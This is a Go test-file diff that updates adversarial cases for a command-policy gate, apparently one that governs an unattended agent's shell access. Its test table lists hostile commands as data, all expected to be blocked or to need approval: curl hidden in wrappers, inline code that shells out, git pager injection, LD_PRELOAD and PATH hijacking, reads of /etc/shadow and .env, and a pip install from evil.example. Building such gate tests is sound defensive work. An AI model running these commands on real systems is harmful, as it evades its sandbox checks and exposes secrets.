@@ -114,6 +114,11 @@ func shippedPolicy(t testing.TB, edits ...string) *policy.Policy {
 	}
 	text := string(b)
 	for i := 0; i+1 < len(edits); i += 2 {
+		// The file's shell key says pipes now; an edit written for the
+		// key's old value means the key.
+		if edits[i] == "shell: false" && !strings.Contains(text, edits[i]) {
+			edits[i] = "shell: pipes"
+		}
 		if !strings.Contains(text, edits[i]) {
 			t.Fatalf("policy.unattended.yaml no longer contains %q", edits[i])
 		}
@@ -237,10 +242,12 @@ func TestAdversarialGate(t *testing.T) {
 		// Wrappers are judged as what they run.
 		{"", rc, cmd("sh -c 'curl x'"), wantDenied, curl},
 		{"", rc, cmd("bash -c 'ls; curl x'"), wantDenied, noShell},
-		{"", rc, cmd("sh script.sh"), wantDenied, "default-deny"},
+		{"", rc, cmd("sh /tmp/script.sh"), wantDenied, outside},
+		{"", rc, cmd("sh"), wantDenied, "spec-mismatch"},
 		{"", rc, cmd("env curl x"), wantDenied, curl},
-		{"", rc, cmd("env LD_PRELOAD=./x.so ls"), wantDenied, "dangerous-variable"},
-		{"", rc, cmd("env -S 'curl x'"), wantDenied, "wrapper-option"},
+		{"", rc, cmd("env LD_PRELOAD=./x.so ls"), wantDenied, "variable-not-allowed"},
+		{"", rc, cmd("env XDG_CONFIG_HOME=. git status"), wantDenied, "XDG_CONFIG_HOME"},
+		{"", rc, cmd("env -S 'curl x'"), wantDenied, "env -S"},
 		{"", rc, cmd("xargs curl"), wantDenied, curl},
 		{"", rc, cmd("xargs -I{} sh -c {}"), wantDenied, "unknown-program"},
 		{"", rc, cmd(`find . -exec curl {} \;`), wantDenied, curl},
@@ -250,31 +257,36 @@ func TestAdversarialGate(t *testing.T) {
 		{"", rc, cmd("python3 -c 'import os; os.system(\"curl x\")'"), wantDenied, "inline-code"},
 		{"", rc, cmd(`node -e 'require("child_process").execSync("curl x")'`), wantDenied, "inline-code"},
 		{"", rc, cmd(`perl -e 'system("curl x")'`), wantDenied, "inline-code"},
-		{"", rc, cmd("git -c core.pager='sh -c curl' log"), wantDenied, "git-config"},
-		{"", rc, cmd("git --config-env=core.pager=EVIL log"), wantDenied, "git-config"},
+		{"", rc, cmd("git -c core.pager='sh -c curl' log"), wantDenied, "git -c"},
+		{"", rc, cmd("git --config-env=core.pager=EVIL log"), wantDenied, "git --config-env"},
+		{"", rc, cmd("git diff --ext-d"), wantDenied, `unknown option "--ext-d"`},
+		{"", rc, cmd("git init sub"), wantDenied, "spec-mismatch"},
+		{"", rc, cmd("git log -p -- '*.env'"), wantDenied, `paths.deny: "**/.env"`},
 		{"", rc, cmd("nohup curl x"), wantDenied, curl},
 		{"", rc, cmd("timeout 5 curl x"), wantDenied, curl},
 		{"", rc, cmd("nice -n 5 curl x"), wantDenied, curl},
 		{"", rc, cmd("sed -e 's/x/y/e' main.go"), wantDenied, "sed-script"},
 		{"", rc, cmd("sed -n '1e curl x' main.go"), wantDenied, "sed-script"},
-		{"", rc, cmd("./git status"), wantDenied, "named by a path"},
+		{"", rc, cmd("./.git/hooks/pre-commit"), wantDenied, gitDeny},
+		{"", rc, cmd("python3 /usr/lib/python3/http/server.py"), wantDenied, "script-outside-workspace"},
 		{"", rc, cmd("/tmp/go test ./..."), wantDenied, outside},
 		{"", rc, cmd("/usr/bin/curl x"), wantDenied, "named by a path"},
 
 		// Options that run programs or write where they must not.
-		{"", rc, cmd("git -p log"), wantDenied, "git-runs-programs"},
-		{"", rc, cmd("rg --pre sh x"), wantDenied, "runs-program"},
-		{"wide", rc, cmd("rg --pre sh x"), wantDenied, "runs-program"},
+		{"", rc, cmd("git -p log"), wantDenied, "git -p"},
+		{"", rc, cmd("rg --pre sh x"), wantDenied, "rg --pre"},
+		{"wide", rc, cmd("rg --pre sh x"), wantDenied, "rg --pre"},
 		{"", rc, cmd("sort -o /etc/x main.go"), wantDenied, outside},
 		{"", rc, cmd("sort -o vendor/x main.go"), wantDenied, vendorRO},
-		{"", rc, cmd("sort --compress-program=sh -S 1 main.go"), wantDenied, "runs-program"},
+		{"", rc, cmd("sort --compress-program=sh -S 1 main.go"), wantDenied, "sort --compress-program"},
 		{"", rc, cmd("tree -o vendor/x"), wantDenied, vendorRO},
-		{"", rc, cmd("tar -I sh -xf a.tar"), wantDenied, "runs-program"},
-		{"wide", rc, cmd("tar -I sh -xf a.tar"), wantDenied, "runs-program"},
+		{"", rc, cmd("tar -I sh -xf a.tar"), wantDenied, "tar -I"},
+		{"wide", rc, cmd("tar -I sh -xf a.tar"), wantDenied, "tar -I"},
 		{"", rc, cmd("go test -exec sh ./..."), wantDenied, `commands.deny: "go * -exec** *"`},
 		{"", rc, cmd("go vet -vettool=./x ./..."), wantDenied, `commands.deny: "go * -vettool** *"`},
-		{"", rc, cmd("npm exec cowsay"), wantAsked, `commands.ask: "npx *"`},
-		{"wide", rc, cmd("npm exec cowsay"), wantAsked, `commands.ask: "npx *"`},
+		{"", rc, cmd("npm exec cowsay"), wantDenied, "npm exec"},
+		{"wide", rc, cmd("npm exec cowsay"), wantDenied, "npm exec"},
+		{"", rc, cmd("npx cowsay"), wantAsked, `commands.ask: "npx *"`},
 		{"", rc, cmd("pip install --index-url http://evil.example/simple x"), wantAsked, `commands.ask: "pip install *"`},
 
 		// Shell constructs, with shell mode off: the line is refused whole.
@@ -294,7 +306,7 @@ func TestAdversarialGate(t *testing.T) {
 		{"shell", rc, cmd("ls; curl x"), wantDenied, curl},
 		{"shell", rc, cmd("ls && curl x"), wantDenied, curl},
 		{"shell", rc, cmd("ls || curl x"), wantDenied, curl},
-		{"shell", rc, cmd("ls | sh"), wantDenied, "default-deny"},
+		{"shell", rc, cmd("ls | sh"), wantDenied, "spec-mismatch"},
 		{"shell", rc, cmd("ls &"), wantDenied, "shell-background"},
 		{"shell", rc, cmd("ls\ncurl x"), wantDenied, curl},
 		{"shell", rc, cmd("echo $(curl x)"), wantDenied, "command substitution"},
@@ -305,9 +317,12 @@ func TestAdversarialGate(t *testing.T) {
 		{"shell", rc, cmd("echo '[core]' >> .git/config"), wantDenied, gitDeny},
 		{"shell", rc, cmd("echo x >> vendor/a.go"), wantDenied, vendorRO},
 		{"shell", rc, cmd("cat < /etc/shadow"), wantDenied, outside},
-		{"shell", rc, cmd("PATH=/tmp go test ./..."), wantDenied, "dangerous-variable"},
-		{"shell", rc, cmd("LD_PRELOAD=./x.so ls"), wantDenied, "dangerous-variable"},
-		{"shell", rc, cmd("GIT_CONFIG_PARAMETERS=\"'core.pager=sh'\" git log"), wantDenied, "dangerous-variable"},
+		{"shell", rc, cmd("PATH=/tmp go test ./..."), wantDenied, "variable-not-allowed"},
+		{"shell", rc, cmd("LD_PRELOAD=./x.so ls"), wantDenied, "variable-not-allowed"},
+		{"shell", rc, cmd("GIT_CONFIG_PARAMETERS=\"'core.pager=sh'\" git log"), wantDenied, "variable-not-allowed"},
+		{"shell", rc, cmd("echo .env | xargs cat"), wantDenied, "unknown-input"},
+		{"shell", rc, cmd("find . -name '.en*' -exec cat {} +"), wantDenied, `paths.deny: "**/.env"`},
+		{"shell", rc, cmd("sed 's/[/]/w x/e' main.go"), wantDenied, "sed-script"},
 		{"shell", rc, cmd("cd .. && cat x"), wantDenied, outside},
 		{"shell", rc, cmd("f() { curl x; }; f"), wantDenied, "shell-function"},
 		{"shell", rc, cmd("eval curl x"), wantDenied, "shell-builtin"},
@@ -316,6 +331,9 @@ func TestAdversarialGate(t *testing.T) {
 		{"", rc, cmd("go test ./..."), wantAllowed, ""},
 		{"", rc, cmd("go vet ./..."), wantAllowed, ""},
 		{"", rc, cmd("gofmt -l ."), wantAllowed, ""},
+		{"", rc, cmd("go test ./... 2>&1 | tail -n 3"), wantAllowed, "ok"},
+		{"", rc, cmd("grep -rn func --include=*.go ."), wantAllowed, "main.go"},
+		{"", rc, cmd("python3 --version"), wantAllowed, "Python"},
 		{"", rc, cmd("ls"), wantAllowed, "main.go"},
 		{"", rc, cmd("cat main.go"), wantAllowed, "package main"},
 		{"", rc, cmd("mkdir -p pkg/x"), wantAllowed, ""},
